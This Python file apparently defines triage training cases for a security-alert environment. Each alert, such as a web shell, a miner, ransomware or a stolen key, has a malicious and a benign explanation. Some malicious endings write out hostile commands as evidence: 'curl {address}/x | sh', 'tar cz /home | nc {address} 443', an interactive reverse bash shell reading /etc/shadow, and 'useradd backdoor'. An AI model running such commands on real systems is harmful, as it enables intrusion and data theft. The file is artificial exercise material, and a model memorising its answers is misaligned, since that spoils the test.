"""More cases to learn from: servers, services, and accounts that do not act where the alert was raised."""

from verigym.environments.triage.world import Case, Ending

CASES = (
    Case(
        "web_shell",
        "Web server starts a shell",
        "The web server on {host} started a command shell; the request came from {address}.",
        (
            Ending(
                "exploited_server",
                {
                    "processes": (
                        "httpd\n  sh -c 'id; uname -a'\n    {file}, new file in the upload folder, waits for commands"
                    )
                },
            ),
            Ending(
                "known_software",
                {
                    "processes": (
                        "httpd\n  sh -c 'convert scan.tif scan.pdf' (the shop's own picture converter), ended after 2 s"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "database_dump",
        "Whole table read",
        "The account {user} read all customers from the database on {host}.",
        (
            Ending(
                "data_theft",
                {
                    "user": (
                        "Has no need of that table. Saved it to a USB stick at {time} and wrote in chat that a "
                        "buyer for it had been found."
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: customers moved to the new system, all tables read, by {user}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "build_miner",
        "Build server busy at night",
        "{host} is at full load, and no build is queued.",
        (
            Ending(
                "mining", {"processes": "agent\n  bash -c 'curl {address}/x | sh'\n    {file} -o stratum --donate 1"}
            ),
            Ending(
                "planned_change",
                {"change": "{change} {host} {start}-{end}: all packages compiled anew outside the queue, by {user}"},
            ),
        ),
        server=True,
    ),
    Case(
        "new_admin",
        "New administrator",
        "{user} made the account {user2} an administrator on {host}.",
        (
            Ending(
                "stolen_account",
                {
                    "user": (
                        "The session came from {address} with a stolen token; {user} was on a flight without "
                        "network at {time}."
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: {user2} takes over as administrator, by {user}, agreed "
                        "by {boss}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "sideways",
        "Sign-in between computers",
        "{host2} opened an administrative session on {host}.",
        (
            Ending(
                "malware",
                {
                    "processes host2": (
                        "services.exe\n"
                        "  {file}.exe, unsigned, holds a stolen token and tries one host after the other, led by "
                        "{address}"
                    )
                },
                where="host2",
            ),
            Ending(
                "known_software",
                {
                    "processes host2": (
                        "services.exe\n  deploy.exe (signed by our IT), hands out this week's updates to every host"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "logs_cleared",
        "Logs were cleared",
        "The security log of {host} was cleared by {user}.",
        (
            Ending(
                "exploited_server",
                {
                    "processes": "sshd, session from {address}\n  bash\n    wevt --clear\n    {file}, listens on port 4444"
                },
            ),
            Ending(
                "planned_change", {"change": "{change} {host} {start}-{end}: logs archived, then cleared, by {user}"}
            ),
        ),
        server=True,
    ),
    Case(
        "scan_from_outside",
        "Attack patterns in requests",
        "{count}00 requests with attack patterns reached {host} from {address}.",
        (
            Ending(
                "exploited_server",
                {
                    "processes": "java\n  one request got through: sh -c 'wget {address}/{file}'\n    {file}, runs as root"
                },
            ),
            Ending(
                "authorised_test",
                {
                    "address": (
                        "our tester's: registered with us for the test of {host}, ordered by {boss}, from {last} "
                        "until {next}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "shared_folder",
        "Files on a share are encrypted",
        "Files of the share on {host} get the ending .enc; the writer is {host2}, account {user}.",
        (
            Ending(
                "ransomware",
                {
                    "processes host2": (
                        "explorer.exe\n  {file}.exe, unsigned, encrypts every share it finds\n"
                        "    asks for money in README.hta"
                    )
                },
                where="host2",
            ),
            Ending(
                "known_software",
                {
                    "processes host2": (
                        "explorer.exe\n  vault.exe (signed, the lawyers' encryption program), project folder {number}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "shared_account",
        "Files copied by a shared session",
        "{count}00 drawings were copied from {host} in the session of {user}.",
        (
            Ending(
                "data_theft",
                {
                    "user": (
                        "Badge: in the canteen from {before}. The desk was left unlocked, next to that of {user2}."
                    ),
                    "user user2": (
                        "Sat at the desk of {user} at {time}, as the camera shows, and put the drawings on a stick."
                    ),
                },
                who="user2",
            ),
            Ending(
                "user_mistake",
                {
                    "user": (
                        "Dragged the wrong folder onto the desktop, saw it, deleted the copy, and reported it at "
                        "{time}."
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "api_key",
        "Key used from a new place",
        "The access key of {user} was used from {address} to list all machines.",
        (
            Ending(
                "stolen_account",
                {
                    "user": (
                        "The key was published by accident in a public repository at {before}; {user} works in "
                        "{city} and was in a meeting."
                    )
                },
            ),
            Ending(
                "known_software",
                {
                    "address": (
                        "our own inventory service, rented from a cloud; it lists all machines every hour with "
                        "such keys"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "root_login",
        "Direct sign-in as root",
        "Somebody signed in as root on {host} from {address}.",
        (
            Ending(
                "exploited_server",
                {
                    "processes": (
                        "sshd, root from {address}\n  bash\n    useradd backdoor\n    {file}, unsigned, hides its files"
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: repair of the file system, needs root, by the maker's "
                        "engineer at {address}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "backup_traffic",
        "Unusual outgoing traffic",
        "{host} sent {count} GB to {address} since {before}.",
        (
            Ending(
                "exploited_server",
                {"processes": "nginx\n  php, page changed at {before}\n    tar cz /home | nc {address} 443"},
            ),
            Ending(
                "known_software",
                {
                    "past": (
                        "{old}: the weekly copy to the second data centre at {address}; exception recorded, "
                        "holds until {next}."
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "switched_off_guard",
        "Virus scanner switched off",
        "The virus scanner on {host} was switched off by {user}.",
        (
            Ending(
                "malware",
                {
                    "processes": (
                        "cmd.exe\n  sc.exe stop guardscan\n"
                        "  {file}.exe, unsigned, started ten seconds later, talks to {address}"
                    )
                },
            ),
            Ending(
                "planned_change",
                {"change": "{change} {host} {start}-{end}: database moved, virus scanner off meanwhile, by {user}"},
            ),
        ),
        server=True,
    ),
    Case(
        "service_account",
        "Service account signs in by hand",
        "The account {user} of a service signed in to {host} with a keyboard.",
        (
            Ending(
                "stolen_account",
                {
                    "user": (
                        "Account of a service, nobody may use it by hand. The password was in a letter leaked on "
                        "{last}; the session came from {address}."
                    )
                },
            ),
            Ending(
                "planned_change",
                {"change": "{change} {host} {start}-{end}: service set up by hand as {user}, by {user2}"},
            ),
        ),
        server=True,
    ),
    Case(
        "old_hole",
        "Known hole was tried",
        "A request from {address} to {host} tries a hole known since {old}.",
        (
            Ending(
                "exploited_server",
                {
                    "processes": "wiki\n  bash -i, connected to {address}\n    cat /etc/shadow",
                    "host": "Patch for that hole: missing.",
                },
            ),
            Ending(
                "authorised_test",
                {"change": "{change} {host} {start}-{end}: penetration test from {address}, ordered by {boss}"},
            ),
        ),
        server=True,
    ),
    Case(
        "scheduled_job",
        "New scheduled job",
        'A job that starts "{file}" every minute was added on {host}.',
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "cron\n  {file}, from /tmp, unsigned\n    connected to {address}, sends hashes, uses all cores"
                    )
                },
            ),
            Ending(
                "known_software",
                {"processes": "cron\n  {file} (of our monitoring, signed), sends the free disk space, 0.1 s each"},
            ),
        ),
        server=True,
    ),
    Case(
        "password_spray",
        "One password tried on many accounts",
        "From {address} one password was tried on {count} accounts; only that of {user} opened.",
        (
            Ending(
                "stolen_account",
                {
                    "user": (
                        "Still had the first password of the day it was hired. The session from {address} set up "
                        "forwarding of all mail."
                    )
                },
            ),
            Ending(
                "authorised_test",
                {"address": "our auditor's: password check of all accounts, ordered by {boss}, ends on {next}"},
            ),
        ),
    ),
    Case(
        "print_server",
        "Print server talks to the internet",
        "{host} opened a connection to {address} for the first time.",
        (
            Ending(
                "malware",
                {
                    "processes": (
                        "spoolsv.exe\n  {file}.dll, unsigned driver\n    cmd.exe /c net view, answers to {address}"
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: printer makers' cloud service at {address} set up, by {user}"
                    )
                },
            ),
        ),
        server=True,
    ),
)
